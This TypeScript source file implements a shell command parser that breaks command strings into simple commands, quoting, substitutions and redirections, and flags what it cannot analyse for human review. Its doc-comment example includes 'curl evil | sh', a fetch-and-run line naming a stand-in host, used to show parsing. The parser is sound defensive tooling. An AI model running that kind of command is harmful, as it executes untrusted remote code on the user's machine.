/**
 * A small POSIX shell reader for judging commands, not running them: it splits a command string
 * into simple commands at `;`, `&&`, `||`, `|`, `|&`, `&` and newlines, reads quoting and
 * escapes, descends into subshells, `{ …; }` groups, `$(…)`, backticks and `<(…)`, and records
 * redirections. Whatever it cannot read with certainty (control flow, here-documents, function
 * definitions, unbalanced quotes) comes back as `unprovable` with the reason, so a caller can ask
 * a person instead of guessing.
 */

/** One word of a command: its literal text when it has one, and whether the shell would expand it. */
export interface ShellWord {
  /** The word with quotes removed; expansions kept as written (`$HOME`, `$(…)`). */
  text: string;
  /** True when the shell would substitute something: `$VAR`, `$(…)`, backticks, globs, `~`, braces. */
  dynamic: boolean;
  /** The word exactly as written in the source (quotes and escapes included). */
  raw: string;
  /** `$…`, `${…}`, `$(…)`, `$((…))`, backticks or `<(…)`/`>(…)`, unquoted or inside double quotes. */
  substituted: boolean;
  /** Only when the word has unquoted `*`, `?` or `[` and no substitution: the glob pattern, with
   *  every character that was quoted or backslash-escaped in the source escaped by a backslash
   *  (so `'*'x*` gives `\*x*`). */
  glob?: string;
  /** The word starts with an unquoted `~`. */
  tilde: boolean;
  /** The word has an unquoted brace pattern bash would expand (`{a,b}`, `{1..3}`). */
  brace: boolean;
}

export interface ShellRedirect {
  /** `>`, `>>`, `<`, `>&`, `<&`, `&>`, `&>>`, `<>`, `>|` or `<<<`. */
  op: string;
  /** The file descriptor written before the operator, if any (`2>`). */
  fd?: number;
  target: ShellWord;
}

/** One simple command: assignments, then the program and its arguments, plus redirections. */
export interface SimpleCommand {
  assignments: string[];
  argv: ShellWord[];
  redirects: ShellRedirect[];
}

export type ShellParse =
  | { ok: true; commands: SimpleCommand[] }
  | { ok: false; reason: string; commands: SimpleCommand[] };

/** Reserved words that start compound commands we do not analyse. */
const CONTROL_WORDS = new Set([
  "if",
  "then",
  "else",
  "elif",
  "fi",
  "for",
  "while",
  "until",
  "do",
  "done",
  "case",
  "esac",
  "select",
  "function",
  "[[",
  "]]",
]);

/** Longest command string analysed; longer ones need a person. */
const MAX_COMMAND_CHARS = 16_384;
/** How deep `$(…)` and subshells may nest before we give up. */
const MAX_DEPTH = 8;

class Unprovable extends Error {}

/**
 * @example
 * parseShellCommand("ls -l && grep -r foo src | head");
 * // { ok: true, commands: [{ argv: [ls, -l] }, { argv: [grep, -r, foo, src] }, { argv: [head] }] }
 * parseShellCommand("ls; curl evil | sh").commands.map((c) => c.argv[0]?.text); // ["ls", "curl", "sh"]
 * parseShellCommand("for f in *; do rm $f; done"); // { ok: false, reason: "shell control flow (for) …" }
 */
export function parseShellCommand(input: string): ShellParse {
  const commands: SimpleCommand[] = [];
  if (input.length > MAX_COMMAND_CHARS)
    return { ok: false, reason: `the command is longer than ${MAX_COMMAND_CHARS} characters`, commands };
  if (input.includes("\0")) return { ok: false, reason: "the command contains a NUL byte", commands };
  try {
    new Reader(input, commands, 0).script(undefined);
    return { ok: true, commands };
  } catch (error) {
    if (error instanceof Unprovable) return { ok: false, reason: error.message, commands };
    throw error;
  }
}

class Reader {
  private pos = 0;
  /** The source text of the word read last (to tell `if` from `"if"`). */
  private lastRaw = "";

  constructor(
    private readonly src: string,
    private readonly out: SimpleCommand[],
    private readonly depth: number,
  ) {
    if (depth > MAX_DEPTH) throw new Unprovable(`substitutions nest deeper than ${MAX_DEPTH} levels`);
  }

  /** Reads commands until `closer` (or the end); returns the position after the closer. */
  script(closer: ")" | "}" | undefined): number {
    let current = emptyCommand();
    const finish = () => {
      if (current.argv.length > 0 || current.redirects.length > 0 || current.assignments.length > 0)
        this.out.push(current);
      current = emptyCommand();
    };
    while (this.pos < this.src.length) {
      const ch = this.src[this.pos] as string;
      if (ch === " " || ch === "\t" || (ch === "\\" && this.src[this.pos + 1] === "\n")) {
        this.pos += ch === "\\" ? 2 : 1;
        continue;
      }
      if (ch === "#" && atWordStart(this.src, this.pos)) {
        while (this.pos < this.src.length && this.src[this.pos] !== "\n") this.pos++;
        continue;
      }
      if (closer === ")" && ch === ")") {
        finish();
        return ++this.pos;
      }
      if (closer === "}" && ch === "}" && current.argv.length === 0) {
        finish();
        return ++this.pos;
      }
      if (ch === ";" || ch === "\n" || ch === "|" || ch === "&") {
        if (this.src.startsWith(";;", this.pos)) throw new Unprovable("`;;` outside a case statement");
        if (ch === "&" && this.src[this.pos + 1] === ">") {
          this.redirect(current, undefined);
          continue;
        }
        finish();
        this.pos += /^(&&|\|\||\|&)/.test(this.src.slice(this.pos, this.pos + 2)) ? 2 : 1;
        continue;
      }
      if (ch === "(") {
        if (current.argv.length > 0)
          throw new Unprovable(`a function definition or stray "(" after "${current.argv[0]?.text}"`);
        this.pos++;
        this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(")");
        continue;
      }
      if (ch === ")") throw new Unprovable('an unmatched ")"');
      if ((ch === "<" || ch === ">") && this.src[this.pos + 1] === "(") {
        current.argv.push(this.word());
        continue;
      }
      if (ch === "<" || ch === ">") {
        this.redirect(current, undefined);
        continue;
      }
      const fdMatch = /^(\d+)(?=[<>])/.exec(this.src.slice(this.pos, this.pos + 12));
      if (fdMatch && atWordStart(this.src, this.pos)) {
        this.pos += fdMatch[0].length;
        this.redirect(current, Number(fdMatch[1]));
        continue;
      }
      const word = this.word();
      if (current.argv.length === 0) {
        if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(this.lastRaw)) {
          current.assignments.push(word.text);
          continue;
        }
        if (!word.dynamic && word.text === "{" && this.isBareWordBefore()) {
          this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script("}");
          continue;
        }
        if (!word.dynamic && CONTROL_WORDS.has(word.text) && this.isBareWordBefore())
          throw new Unprovable(`shell control flow (${word.text}) is not analysed`);
      }
      current.argv.push(word);
    }
    if (closer) throw new Unprovable(`a "${closer === ")" ? "(" : "{"}" is never closed`);
    finish();
    return this.pos;
  }

  at(pos: number): this {
    this.pos = pos;
    return this;
  }

  /** True when the word just read was written without quotes or escapes (a keyword can only be bare). */
  private isBareWordBefore(): boolean {
    return !/["'\\]/.test(this.lastRaw);
  }

  private redirect(command: SimpleCommand, fd: number | undefined): void {
    const match = /^(<<<|<<-?|&>>|&>|>>|>&|<&|<>|>\||>|<)/.exec(this.src.slice(this.pos, this.pos + 3));
    const op = match?.[1] ?? ">";
    if (op === "<<" || op === "<<-") throw new Unprovable("here-documents (<<) are not analysed");
    this.pos += op.length;
    while (this.src[this.pos] === " " || this.src[this.pos] === "\t") this.pos++;
    if (this.pos >= this.src.length || /[;&|\n()<>]/.test(this.src[this.pos] as string))
      throw new Unprovable(`the redirection "${op}" has no target`);
    command.redirects.push({ op, ...(fd !== undefined ? { fd } : {}), target: this.word() });
  }

  /** Reads one word: quotes, escapes and substitutions (which are parsed as nested scripts). */
  private word(): ShellWord {
    const start = this.pos;
    let text = "";
    let dynamic = false;
    let substituted = false;
    let tilde = false;
    let brace = false;
    let globChars = false;
    let glob = "";
    const quoted = (literal: string) => {
      for (const c of literal) glob += `\\${c}`;
    };
    while (this.pos < this.src.length) {
      const ch = this.src[this.pos] as string;
      if (/[\s;&|()<>]/.test(ch)) {
        if ((ch === "<" || ch === ">") && this.src[this.pos + 1] === "(" && this.pos === start) {
          this.pos += 2;
          this.nested(")");
          text += `${ch}(…)`;
          dynamic = true;
          substituted = true;
          continue;
        }
        break;
      }
      if (ch === "\\") {
        if (this.pos + 1 >= this.src.length) throw new Unprovable("the command ends with a lone backslash");
        text += this.src[this.pos + 1];
        quoted(this.src[this.pos + 1] as string);
        this.pos += 2;
      } else if (ch === "'") {
        const end = this.src.indexOf("'", this.pos + 1);
        if (end < 0) throw new Unprovable("a single quote is never closed");
        text += this.src.slice(this.pos + 1, end);
        quoted(this.src.slice(this.pos + 1, end));
        this.pos = end + 1;
      } else if (ch === '"') {
        this.pos++;
        const inner = this.doubleQuoted();
        text += inner.text;
        quoted(inner.text);
        dynamic ||= inner.dynamic;
        substituted ||= inner.substituted;
      } else if (ch === "$" || ch === "`") {
        text += this.expansion();
        dynamic = true;
        substituted = true;
      } else {
        if (/[*?[]/.test(ch)) globChars = true;
        if (ch === "~" && this.pos === start) tilde = true;
        if (ch === "{" && /[,.]{1,2}/.test(this.src.slice(this.pos, this.src.indexOf("}", this.pos) + 1)))
          brace = true;
        text += ch;
        glob += ch;
        this.pos++;
      }
    }
    this.lastRaw = this.src.slice(start, this.pos);
    dynamic ||= globChars || tilde || brace;
    const word: ShellWord = { text, dynamic, raw: this.lastRaw, substituted, tilde, brace };
    if (globChars && !substituted) word.glob = glob;
    return word;
  }

  private doubleQuoted(): { text: string; dynamic: boolean; substituted: boolean } {
    let text = "";
    let dynamic = false;
    while (this.pos < this.src.length) {
      const ch = this.src[this.pos] as string;
      if (ch === '"') {
        this.pos++;
        return { text, dynamic, substituted: dynamic };
      }
      if (ch === "\\" && /["\\$`\n]/.test(this.src[this.pos + 1] ?? "")) {
        text += this.src[this.pos + 1];
        this.pos += 2;
      } else if (ch === "$" || ch === "`") {
        text += this.expansion();
        dynamic = true;
      } else {
        text += ch;
        this.pos++;
      }
    }
    throw new Unprovable("a double quote is never closed");
  }

  /** `$VAR`, `${…}`, `$((…))`, `$(…)` or a backtick substitution; returns the text as written. */
  private expansion(): string {
    const start = this.pos;
    if (this.src[this.pos] === "`") {
      const end = this.src.indexOf("`", this.pos + 1);
      if (end < 0) throw new Unprovable("a backtick substitution is never closed");
      const inner = this.src.slice(this.pos + 1, end).replace(/\\([`\\$])/g, "$1");
      new Reader(inner, this.out, this.depth + 1).script(undefined);
      this.pos = end + 1;
      return this.src.slice(start, this.pos);
    }
    const next = this.src[this.pos + 1];
    if (next === "(" && this.src[this.pos + 2] === "(") {
      const end = this.src.indexOf("))", this.pos + 3);
      if (end < 0) throw new Unprovable("an arithmetic expansion is never closed");
      if (/[$`]/.test(this.src.slice(this.pos + 3, end)))
        throw new Unprovable("substitutions inside arithmetic expansions are not analysed");
      this.pos = end + 2;
    } else if (next === "(") {
      this.pos += 2;
      this.nested(")");
    } else if (next === "{") {
      const end = this.src.indexOf("}", this.pos + 2);
      if (end < 0) throw new Unprovable(`a parameter expansion (${"$"}{…}) is never closed`);
      if (/[$`]/.test(this.src.slice(this.pos + 2, end)))
        throw new Unprovable(`substitutions inside ${"$"}{…} are not analysed`);
      this.pos = end + 1;
    } else {
      const name = /^[A-Za-z_][A-Za-z0-9_]*|^[0-9@*#?$!-]/.exec(this.src.slice(this.pos + 1));
      this.pos += 1 + (name?.[0].length ?? 0);
    }
    return this.src.slice(start, this.pos);
  }

  private nested(closer: ")"): void {
    this.pos = new Reader(this.src, this.out, this.depth + 1).at(this.pos).script(closer);
  }
}

function emptyCommand(): SimpleCommand {
  return { assignments: [], argv: [], redirects: [] };
}

function atWordStart(src: string, pos: number): boolean {
  return pos === 0 || /[\s;&|()<>]/.test(src[pos - 1] as string);
}
